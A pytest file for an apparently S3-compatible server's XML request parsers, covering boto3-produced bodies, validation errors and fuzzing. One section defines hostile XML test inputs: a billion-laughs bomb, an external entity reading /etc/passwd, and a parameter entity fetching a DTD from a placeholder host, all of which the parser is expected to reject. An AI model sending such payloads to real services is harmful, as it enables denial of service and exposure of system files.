"""smarts3 reads the request bodies boto3 sends, refuses hostile or malformed XML with S3's errors, and never
lets anything but a domain S3Error escape.

Valid bodies are produced by botocore's own serializer: a ``before-send`` hook captures the request and
answers an empty 200, so no socket is opened.
"""

from __future__ import annotations

from collections.abc import Callable
from datetime import UTC, datetime
from typing import Any

import boto3
import pytest
from botocore.awsrequest import AWSResponse
from botocore.config import Config
from hypothesis import given, settings
from hypothesis import strategies as st

from smarts3.adapters.http import xml
from smarts3.adapters.http.xml_models import LifecycleExpiration, LifecycleFilter
from smarts3.domain.errors import (
    IllegalVersioningConfigurationException,
    InvalidArgument,
    InvalidRequest,
    InvalidRetentionPeriod,
    InvalidTag,
    MalformedXML,
    S3Error,
)

NS = 'xmlns="http://s3.amazonaws.com/doc/2006-03-01/"'


class _Raw:
    def stream(self, **_: Any) -> Any:
        yield b""


_sent: list[bytes] = []


def _capture(request: Any, **_: Any) -> AWSResponse:
    body = request.body
    _sent.append(body if isinstance(body, bytes) else body.read() if body else b"")
    return AWSResponse(request.url, 200, {}, _Raw())


CLIENT = boto3.client(
    "s3",
    region_name="us-east-1",
    endpoint_url="http://smarts3.invalid",
    aws_access_key_id="AKIDEXAMPLE",
    aws_secret_access_key="secret",
    config=Config(retries={"max_attempts": 1}, s3={"addressing_style": "path"}),
)
CLIENT.meta.events.register("before-send.s3", _capture)


def sent(call: Callable[..., Any], **kwargs: Any) -> bytes:
    """The body boto3 sends for ``call(**kwargs)``."""
    _sent.clear()
    try:
        call(**kwargs)
    except Exception:  # an empty 200 may not parse for every operation; the body is what matters
        pass
    return _sent[-1]


# --- bodies boto3 sends ---------------------------------------------------------------------------------------


def test_delete_keys_keep_whitespace_and_unicode_exactly() -> None:
    keys = ["  spaced  ", "tab\there", "new\nline", "ü/日本/😀", "a&b<c>", "plain"]
    body = sent(
        CLIENT.delete_objects,
        Bucket="b",
        Delete={
            "Objects": [{"Key": k} for k in keys[:-1]]
            + [{"Key": "plain", "VersionId": "v1"}, {"Key": "guarded", "ETag": '"abc"'}],
            "Quiet": True,
        },
    )
    quiet, objects = xml.parse_delete(body)
    assert quiet is True
    assert objects == [(k, None, None) for k in keys[:-1]] + [("plain", "v1", None), ("guarded", None, '"abc"')]


def test_complete_multipart_upload_from_boto3() -> None:
    body = sent(
        CLIENT.complete_multipart_upload,
        Bucket="b",
        Key="k",
        UploadId="u",
        MultipartUpload={
            "Parts": [
                {"PartNumber": 1, "ETag": '"aaa"', "ChecksumCRC32": "AAAAAA=="},
                {"PartNumber": 2, "ETag": "bbb"},
            ]
        },
    )
    assert xml.parse_complete_multipart_upload(body) == [(1, "aaa", {"CRC32": "AAAAAA=="}), (2, "bbb", {})]


def test_tagging_from_boto3() -> None:
    tags = [{"Key": "k&<", "Value": ""}, {"Key": "ü", "Value": "v" * 256}]
    body = sent(CLIENT.put_object_tagging, Bucket="b", Key="k", Tagging={"TagSet": tags})
    assert xml.parse_tagging(body) == [("k&<", ""), ("ü", "v" * 256)]


def test_versioning_from_boto3() -> None:
    body = sent(
        CLIENT.put_bucket_versioning,
        Bucket="b",
        VersioningConfiguration={"Status": "Suspended", "MFADelete": "Disabled"},
    )
    assert xml.parse_versioning(body) == ("Suspended", "Disabled")


def test_create_bucket_configuration_from_boto3() -> None:
    body = sent(
        CLIENT.create_bucket, Bucket="b", CreateBucketConfiguration={"LocationConstraint": "eu-west-1"}
    )
    assert xml.parse_create_bucket_configuration(body) == "eu-west-1"
    assert xml.parse_create_bucket_configuration(b"") is None
    assert xml.parse_create_bucket_configuration(b"  \n") is None
    assert xml.parse_create_bucket_configuration(b"<CreateBucketConfiguration/>") is None


def test_cors_from_boto3() -> None:
    rules = [
        {
            "ID": "r1",
            "AllowedHeaders": ["*"],
            "AllowedMethods": ["GET", "PUT"],
            "AllowedOrigins": ["https://*.example.com"],
            "ExposeHeaders": ["ETag"],
            "MaxAgeSeconds": 300,
        }
    ]
    body = sent(CLIENT.put_bucket_cors, Bucket="b", CORSConfiguration={"CORSRules": rules})
    (rule,) = xml.parse_cors(body)
    assert rule.id == "r1"
    assert rule.allowed_methods == ("GET", "PUT")
    assert rule.allowed_origins == ("https://*.example.com",)
    assert rule.allowed_headers == ("*",)
    assert rule.expose_headers == ("ETag",)
    assert rule.max_age_seconds == 300


def test_lifecycle_from_boto3_and_back() -> None:
    rules = [
        {
            "ID": "r1",
            "Status": "Enabled",
            "Filter": {
                "And": {"Prefix": "logs/", "Tags": [{"Key": "a", "Value": "b"}], "ObjectSizeGreaterThan": 5}
            },
            "Expiration": {"Days": 30},
            "Transitions": [{"Days": 10, "StorageClass": "GLACIER"}],
            "NoncurrentVersionExpiration": {"NoncurrentDays": 7, "NewerNoncurrentVersions": 3},
        },
        {
            "ID": "r2",
            "Status": "Disabled",
            "Filter": {"Prefix": ""},
            "Expiration": {"Date": datetime(2030, 1, 1, tzinfo=UTC)},
            "AbortIncompleteMultipartUpload": {"DaysAfterInitiation": 2},
        },
    ]
    body = sent(
        CLIENT.put_bucket_lifecycle_configuration, Bucket="b", LifecycleConfiguration={"Rules": rules}
    )
    first, second = xml.parse_lifecycle(body)
    assert first.filter == LifecycleFilter(
        prefix="logs/", tags=(("a", "b"),), object_size_greater_than=5, is_and=True
    )
    assert first.expiration == LifecycleExpiration(days=30)
    assert first.noncurrent_version_expiration is not None
    assert first.noncurrent_version_expiration.newer_noncurrent_versions == 3
    assert first.transitions == (
        "<Transition><Days>10</Days><StorageClass>GLACIER</StorageClass></Transition>",
    )
    assert second.filter == LifecycleFilter(prefix="")
    assert second.expiration == LifecycleExpiration(date=datetime(2030, 1, 1, tzinfo=UTC))
    assert second.abort_incomplete_multipart_upload_days == 2
    assert xml.parse_lifecycle(xml.lifecycle_configuration([first, second])) == [first, second]


def test_object_lock_retention_legal_hold_from_boto3() -> None:
    body = sent(
        CLIENT.put_object_lock_configuration,
        Bucket="b",
        ObjectLockConfiguration={
            "ObjectLockEnabled": "Enabled",
            "Rule": {"DefaultRetention": {"Mode": "COMPLIANCE", "Years": 1}},
        },
    )
    config = xml.parse_object_lock_configuration(body)
    assert (config.enabled, config.mode, config.days, config.years) == (True, "COMPLIANCE", None, 1)
    until = datetime(2031, 5, 6, 7, 8, 9, tzinfo=UTC)
    body = sent(
        CLIENT.put_object_retention,
        Bucket="b",
        Key="k",
        Retention={"Mode": "GOVERNANCE", "RetainUntilDate": until},
    )
    assert xml.parse_retention(body) == ("GOVERNANCE", until)
    body = sent(CLIENT.put_object_legal_hold, Bucket="b", Key="k", LegalHold={"Status": "OFF"})
    assert xml.parse_legal_hold(body) == "OFF"


def test_documents_without_namespace_are_accepted() -> None:
    assert xml.parse_delete(b"<Delete><Object><Key>k</Key></Object></Delete>") == (False, [("k", None, None)])
    assert xml.parse_legal_hold(b"<LegalHold><Status>ON</Status></LegalHold>") == "ON"
    assert xml.parse_delete(f"<Delete {NS}><Object><Key>k</Key></Object></Delete>".encode()) == (
        False,
        [("k", None, None)],
    )


# --- hostile and malformed bodies -----------------------------------------------------------------------------

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
]>
<Delete><Object><Key>&lol4;</Key></Object></Delete>"""

EXTERNAL_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE d [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<Delete><Object><Key>&xxe;</Key></Object></Delete>"""

PARAMETER_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE d [<!ENTITY % p SYSTEM "http://example.invalid/evil.dtd"> %p;]>
<Delete><Object><Key>k</Key></Object></Delete>"""


@pytest.mark.parametrize(
    "body",
    [
        BILLION_LAUGHS,
        EXTERNAL_ENTITY,
        PARAMETER_ENTITY,
        b"<!DOCTYPE Delete><Delete><Object><Key>k</Key></Object></Delete>",
        b"<Delete>" + b"<a>" * 10_000 + b"</a>" * 10_000 + b"</Delete>",
        b"<Delete><Object><Key>k</Key></Object>",
        b"not xml at all",
        b"\xff\xfe\x00<",
        b"<Delete></Delete>",
        b"<Delete><Object><VersionId>v</VersionId></Object></Delete>",
        b"<Delete><Quiet>maybe</Quiet><Object><Key>k</Key></Object></Delete>",
        b"<Delete><Object><Key>k</Key><Key>k2</Key></Object></Delete>",
        b"<Delete><Object><Key><b>k</b></Key></Object></Delete>",
        b"<Other><Object><Key>k</Key></Object></Other>",
        b"<Delete><Object><Key>\x01</Key></Object></Delete>",
    ],
    ids=lambda b: b[:30].decode("latin-1"),
)
def test_hostile_or_malformed_delete_is_malformed_xml(body: bytes) -> None:
    with pytest.raises(MalformedXML):
        xml.parse_delete(body)


def test_oversized_body_is_refused_before_parsing() -> None:
    body = b"<Delete><Object><Key>" + b"k" * 2_000_000 + b"</Key></Object></Delete>"
    with pytest.raises(MalformedXML):
        xml.parse_delete(body)
    small = b"<Delete><Object><Key>kkkk</Key></Object></Delete>"
    with pytest.raises(MalformedXML):
        xml.parse_delete(small, max_size=10)
    assert xml.parse_delete(small, max_size=len(small)) == (False, [("kkkk", None, None)])


def test_more_than_1000_delete_objects_is_malformed() -> None:
    objects = "".join(f"<Object><Key>k{i}</Key></Object>" for i in range(1001))
    with pytest.raises(MalformedXML):
        xml.parse_delete(f"<Delete>{objects}</Delete>".encode())
    ok = "".join(f"<Object><Key>k{i}</Key></Object>" for i in range(1000))
    assert len(xml.parse_delete(f"<Delete>{ok}</Delete>".encode())[1]) == 1000


# --- complete multipart ---------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "parts",
    [
        "",
        "<Part><ETag>e</ETag></Part>",
        "<Part><PartNumber>1</PartNumber></Part>",
        "<Part><PartNumber>one</PartNumber><ETag>e</ETag></Part>",
        "<Part><PartNumber>-1</PartNumber><ETag>e</ETag></Part>",
        "<Part><PartNumber>1.5</PartNumber><ETag>e</ETag></Part>",
        "<Part><PartNumber>1e3</PartNumber><ETag>e</ETag></Part>",
        "<Part><PartNumber>99999999999999999999999</PartNumber><ETag>e</ETag></Part>",
    ],
)
def test_complete_multipart_malformed(parts: str) -> None:
    with pytest.raises(MalformedXML):
        xml.parse_complete_multipart_upload(
            f"<CompleteMultipartUpload>{parts}</CompleteMultipartUpload>".encode()
        )


def test_complete_multipart_keeps_document_order_and_unquotes() -> None:
    body = (
        "<CompleteMultipartUpload><Part><PartNumber> 3 </PartNumber><ETag>&quot;c&quot;</ETag></Part>"
        "<Part><PartNumber>1</PartNumber><ETag>a</ETag></Part></CompleteMultipartUpload>"
    )
    assert xml.parse_complete_multipart_upload(body.encode()) == [(3, "c", {}), (1, "a", {})]


# --- tagging --------------------------------------------------------------------------------------------------


def _tagging(*pairs: tuple[str, str]) -> bytes:
    tags = "".join(f"<Tag><Key>{k}</Key><Value>{v}</Value></Tag>" for k, v in pairs)
    return f"<Tagging><TagSet>{tags}</TagSet></Tagging>".encode()


@pytest.mark.parametrize(
    "pairs",
    [
        (("k", "1"), ("k", "2")),
        (("", "v"),),
        (("k" * 129, "v"),),
        (("k", "v" * 257),),
        (("aws:reserved", "v"),),
        tuple((f"k{i}", "v") for i in range(11)),
    ],
    ids=["duplicate", "empty-key", "long-key", "long-value", "aws-prefix", "eleven"],
)
def test_bad_tags_are_invalid_tag(pairs: tuple[tuple[str, str], ...]) -> None:
    with pytest.raises(InvalidTag):
        xml.parse_tagging(_tagging(*pairs))


def test_tag_limit_is_a_parameter_and_lengths_count_characters() -> None:
    fifty = tuple((f"k{i}", "v") for i in range(50))
    assert len(xml.parse_tagging(_tagging(*fifty), max_tags=50)) == 50
    assert xml.parse_tagging(_tagging(("ü" * 128, "日" * 256))) == [("ü" * 128, "日" * 256)]
    assert xml.parse_tagging(b"<Tagging><TagSet/></Tagging>") == []
    with pytest.raises(MalformedXML):
        xml.parse_tagging(b"<Tagging/>")
    with pytest.raises(MalformedXML):
        xml.parse_tagging(b"<Tagging><TagSet><Tag><Key>k</Key></Tag></TagSet></Tagging>")


# --- versioning -----------------------------------------------------------------------------------------------


def test_versioning_validation() -> None:
    with pytest.raises(MalformedXML):
        xml.parse_versioning(b"<VersioningConfiguration><Status>On</Status></VersioningConfiguration>")
    with pytest.raises(MalformedXML):
        xml.parse_versioning(
            b"<VersioningConfiguration><Status>Enabled</Status><MfaDelete>x</MfaDelete></VersioningConfiguration>"
        )
    with pytest.raises(IllegalVersioningConfigurationException):
        xml.parse_versioning(b"<VersioningConfiguration/>")
    assert xml.parse_versioning(
        b"<VersioningConfiguration><Status>Enabled</Status></VersioningConfiguration>"
    ) == (
        "Enabled",
        None,
    )


# --- CORS -----------------------------------------------------------------------------------------------------


def _cors(rule: str, count: int = 1) -> bytes:
    return f"<CORSConfiguration>{f'<CORSRule>{rule}</CORSRule>' * count}</CORSConfiguration>".encode()


GOOD_RULE = "<AllowedOrigin>*</AllowedOrigin><AllowedMethod>GET</AllowedMethod>"


def test_cors_validation() -> None:
    with pytest.raises(InvalidRequest):
        xml.parse_cors(_cors("<AllowedOrigin>*</AllowedOrigin><AllowedMethod>PATCH</AllowedMethod>"))
    with pytest.raises(InvalidRequest):
        xml.parse_cors(_cors("<AllowedOrigin>*.*</AllowedOrigin><AllowedMethod>GET</AllowedMethod>"))
    with pytest.raises(MalformedXML):
        xml.parse_cors(_cors("<AllowedMethod>GET</AllowedMethod>"))
    with pytest.raises(MalformedXML):
        xml.parse_cors(_cors("<AllowedOrigin>*</AllowedOrigin>"))
    with pytest.raises(MalformedXML):
        xml.parse_cors(b"<CORSConfiguration/>")
    with pytest.raises(MalformedXML):
        xml.parse_cors(_cors(GOOD_RULE + "<MaxAgeSeconds>soon</MaxAgeSeconds>"))
    with pytest.raises(MalformedXML):
        xml.parse_cors(_cors(GOOD_RULE, 101))
    assert len(xml.parse_cors(_cors(GOOD_RULE, 100))) == 100


# --- lifecycle ------------------------------------------------------------------------------------------------


def _rule(inner: str) -> bytes:
    return f"<LifecycleConfiguration><Rule>{inner}</Rule></LifecycleConfiguration>".encode()


EXPIRE = "<Expiration><Days>1</Days></Expiration>"


@pytest.mark.parametrize(
    ("inner", "error"),
    [
        ("<Status>Enabled</Status>" + EXPIRE, MalformedXML),  # neither Filter nor Prefix
        ("<Prefix/><Filter/><Status>Enabled</Status>" + EXPIRE, MalformedXML),  # both
        ("<Filter/><Status>Maybe</Status>" + EXPIRE, MalformedXML),
        ("<Filter/>" + EXPIRE, MalformedXML),  # no Status
        (
            "<Filter><Prefix>a</Prefix><Tag><Key>k</Key><Value>v</Value></Tag></Filter><Status>Enabled</Status>"
            + EXPIRE,
            MalformedXML,
        ),
        ("<Filter/><Status>Enabled</Status>", InvalidRequest),  # no action
        ("<Filter/><Status>Enabled</Status><Expiration><Days>0</Days></Expiration>", InvalidArgument),
        ("<Filter/><Status>Enabled</Status><Expiration><Days>x</Days></Expiration>", MalformedXML),
        (
            "<Filter/><Status>Enabled</Status><Expiration><Days>1</Days><Date>2030-01-01T00:00:00Z</Date></Expiration>",
            MalformedXML,
        ),
        (
            "<Filter/><Status>Enabled</Status><Expiration><Date>2030-01-01T10:00:00Z</Date></Expiration>",
            InvalidArgument,
        ),
        (
            "<Filter/><Status>Enabled</Status><NoncurrentVersionExpiration><NoncurrentDays>0</NoncurrentDays></NoncurrentVersionExpiration>",
            InvalidArgument,
        ),
        (
            "<Filter/><Status>Enabled</Status><AbortIncompleteMultipartUpload><DaysAfterInitiation>0</DaysAfterInitiation></AbortIncompleteMultipartUpload>",
            InvalidArgument,
        ),
        (
            "<Filter><Tag><Key>k</Key><Value>v</Value></Tag></Filter><Status>Enabled</Status><AbortIncompleteMultipartUpload><DaysAfterInitiation>1</DaysAfterInitiation></AbortIncompleteMultipartUpload>",
            InvalidRequest,
        ),
        (
            "<Filter><Tag><Key>k</Key><Value>v</Value></Tag></Filter><Status>Enabled</Status><Expiration><ExpiredObjectDeleteMarker>true</ExpiredObjectDeleteMarker></Expiration>",
            InvalidRequest,
        ),
        (f"<ID>{'i' * 256}</ID><Filter/><Status>Enabled</Status>" + EXPIRE, InvalidArgument),
        (
            "<Filter><And><ObjectSizeGreaterThan>10</ObjectSizeGreaterThan><ObjectSizeLessThan>5</ObjectSizeLessThan></And></Filter><Status>Enabled</Status>"
            + EXPIRE,
            InvalidArgument,
        ),
    ],
)
def test_lifecycle_validation(inner: str, error: type[S3Error]) -> None:
    with pytest.raises(error):
        xml.parse_lifecycle(_rule(inner))


def test_lifecycle_rule_ids_must_be_unique_and_rules_present() -> None:
    rule = "<Rule><ID>same</ID><Filter/><Status>Enabled</Status>" + EXPIRE + "</Rule>"
    with pytest.raises(InvalidArgument):
        xml.parse_lifecycle(f"<LifecycleConfiguration>{rule}{rule}</LifecycleConfiguration>".encode())
    with pytest.raises(MalformedXML):
        xml.parse_lifecycle(b"<LifecycleConfiguration/>")


def test_lifecycle_legacy_prefix_rule() -> None:
    (rule,) = xml.parse_lifecycle(_rule("<Prefix>old/</Prefix><Status>Enabled</Status>" + EXPIRE))
    assert rule.filter is None and rule.prefix == "old/"


# --- object lock ----------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("body", "error"),
    [
        (
            b"<ObjectLockConfiguration><ObjectLockEnabled>Disabled</ObjectLockEnabled></ObjectLockConfiguration>",
            MalformedXML,
        ),
        (
            b"<ObjectLockConfiguration><ObjectLockEnabled>Enabled</ObjectLockEnabled><Rule/></ObjectLockConfiguration>",
            MalformedXML,
        ),
        (
            b"<ObjectLockConfiguration><Rule><DefaultRetention><Mode>SOFT</Mode><Days>1</Days></DefaultRetention></Rule></ObjectLockConfiguration>",
            MalformedXML,
        ),
        (
            b"<ObjectLockConfiguration><Rule><DefaultRetention><Mode>GOVERNANCE</Mode></DefaultRetention></Rule></ObjectLockConfiguration>",
            MalformedXML,
        ),
        (
            b"<ObjectLockConfiguration><Rule><DefaultRetention><Mode>GOVERNANCE</Mode><Days>1</Days><Years>1</Years></DefaultRetention></Rule></ObjectLockConfiguration>",
            MalformedXML,
        ),
        (
            b"<ObjectLockConfiguration><Rule><DefaultRetention><Mode>GOVERNANCE</Mode><Days>0</Days></DefaultRetention></Rule></ObjectLockConfiguration>",
            InvalidRetentionPeriod,
        ),
        (
            b"<ObjectLockConfiguration><Rule><DefaultRetention><Mode>GOVERNANCE</Mode><Years>-1</Years></DefaultRetention></Rule></ObjectLockConfiguration>",
            InvalidRetentionPeriod,
        ),
        (b"<Retention><Mode>GOVERNANCE</Mode></Retention>", MalformedXML),
        (
            b"<Retention><Mode>SOFT</Mode><RetainUntilDate>2030-01-01T00:00:00Z</RetainUntilDate></Retention>",
            MalformedXML,
        ),
        (
            b"<Retention><Mode>GOVERNANCE</Mode><RetainUntilDate>tomorrow</RetainUntilDate></Retention>",
            MalformedXML,
        ),
        (b"<LegalHold><Status>on</Status></LegalHold>", MalformedXML),
        (b"<LegalHold/>", MalformedXML),
    ],
)
def test_object_lock_validation(body: bytes, error: type[S3Error]) -> None:
    parser = {
        b"<Ob": xml.parse_object_lock_configuration,
        b"<Re": xml.parse_retention,
        b"<Le": xml.parse_legal_hold,
    }[body[:3]]
    with pytest.raises(error):
        parser(body)


def test_empty_retention_is_allowed() -> None:
    assert xml.parse_retention(b"<Retention/>") == (None, None)


# --- fuzzing: nothing but S3Error escapes ---------------------------------------------------------------------

PARSERS: list[Callable[[bytes], Any]] = [
    xml.parse_create_bucket_configuration,
    xml.parse_complete_multipart_upload,
    xml.parse_delete,
    xml.parse_tagging,
    xml.parse_versioning,
    xml.parse_cors,
    xml.parse_lifecycle,
    xml.parse_object_lock_configuration,
    xml.parse_retention,
    xml.parse_legal_hold,
]
ROOTS = [
    "CreateBucketConfiguration",
    "CompleteMultipartUpload",
    "Delete",
    "Tagging",
    "VersioningConfiguration",
    "CORSConfiguration",
    "LifecycleConfiguration",
    "ObjectLockConfiguration",
    "Retention",
    "LegalHold",
]
NAMES = st.sampled_from(
    [
        *ROOTS,
        "Object", "Key", "VersionId", "Quiet", "Part", "PartNumber", "ETag", "ChecksumCRC32", "TagSet", "Tag",
        "Value", "Status", "MfaDelete", "CORSRule", "AllowedOrigin", "AllowedMethod", "AllowedHeader",
        "MaxAgeSeconds", "ID", "Rule", "Filter", "And", "Prefix", "Expiration", "Days", "Date",
        "ExpiredObjectDeleteMarker", "NoncurrentVersionExpiration", "NoncurrentDays", "NewerNoncurrentVersions",
        "AbortIncompleteMultipartUpload", "DaysAfterInitiation", "Transition", "ObjectSizeGreaterThan",
        "ObjectLockEnabled", "DefaultRetention", "Mode", "Years", "RetainUntilDate", "LocationConstraint",
    ]
)  # fmt: skip
TEXTS = st.one_of(
    st.sampled_from(
        ["1", "0", "-1", "true", "Enabled", "GET", "ON", "GOVERNANCE", "2030-01-01T00:00:00Z", ""]
    ),
    st.text(max_size=10),
)


def _xml_tree(depth: int) -> st.SearchStrategy[str]:
    leaf = st.builds(lambda n, t: f"<{n}>{xml.escape(t)}</{n}>", NAMES, TEXTS)
    if depth == 0:
        return leaf
    node = st.builds(
        lambda n, kids: f"<{n}>{''.join(kids)}</{n}>", NAMES, st.lists(_xml_tree(depth - 1), max_size=4)
    )
    return st.one_of(leaf, node)


@settings(max_examples=300, deadline=None)
@given(index=st.integers(0, len(PARSERS) - 1), body=st.binary(max_size=200))
def test_fuzz_random_bytes_only_raise_s3_errors(index: int, body: bytes) -> None:
    try:
        PARSERS[index](body)
    except S3Error:
        pass


@settings(max_examples=500, deadline=None)
@given(index=st.integers(0, len(PARSERS) - 1), children=st.lists(_xml_tree(3), max_size=5))
def test_fuzz_structured_documents_only_raise_s3_errors(index: int, children: list[str]) -> None:
    body = f"<{ROOTS[index]} {NS}>{''.join(children)}</{ROOTS[index]}>".encode()
    try:
        PARSERS[index](body)
    except S3Error:
        pass
